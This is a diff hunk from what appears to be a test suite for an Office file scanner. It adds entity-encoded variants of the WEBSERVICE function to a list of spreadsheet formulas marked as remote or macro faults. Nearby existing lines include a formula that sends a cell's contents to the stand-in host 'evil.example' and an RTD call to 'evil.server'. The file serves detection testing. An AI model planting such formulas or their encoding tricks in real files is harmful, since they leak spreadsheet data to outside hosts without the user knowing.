@@ -132,6 +132,10 @@ TEMPLATE: Final = f'Id="r1" TargetMode="External" Type="{OFFICE}/attachedTemplat
         (calculated('_xlfn.WEBSERVICE("https://evil.example/?"&amp;A2)'), FileFault.REMOTE),
         (calculated("IF(B1&gt;0,_xlfn._xlws.image <!-- -->(A3),0)"), FileFault.REMOTE),
         (calculated('RTD("evil.server",,"x")'), FileFault.MACROS),
+        *(
+            (calculated(f"{sign}EBSERVICE(A1)"), FileFault.REMOTE)
+            for sign in ("&#87;", "&#x57;", "&#000087;", f"&#x{'0' * 3000}57;")
+        ),
         (
             with_part(
                 excel_workbook(), "xl/a.xml", '<w xmlns="/spreadsheetml/"><definedName>IMAGE(A1)</definedName></w>'
